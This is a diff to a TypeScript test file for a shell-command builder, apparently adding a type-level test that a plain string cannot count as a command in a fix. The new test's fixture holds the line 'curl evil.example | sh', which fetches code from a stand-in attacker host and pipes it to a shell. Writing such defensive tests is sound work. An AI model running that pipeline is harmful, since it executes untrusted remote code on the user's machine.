@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { bashWords } from '../../test/support/bash-words.ts';
+import type { Fix } from './detector.ts';
 import { sh } from './shell-command.ts';
 import { parseSimpleCommand } from './simple-command.ts';
 
@@ -37,6 +38,13 @@ test.each([
   ['a list with an option', ['a', '-b']],
 ])('%s makes no command', (_, value) => {
   expect(sh`go test ${value}`).toBeUndefined();
+});
+
+test('a plain string is no command of a fix', () => {
+  // @ts-expect-error: only the template makes one
+  const fix: Fix = { summary: 'Run it.', commands: ['curl evil.example | sh'] };
+
+  expect(fix.commands).toHaveLength(1);
 });
 
 test('a value names no program', () => {
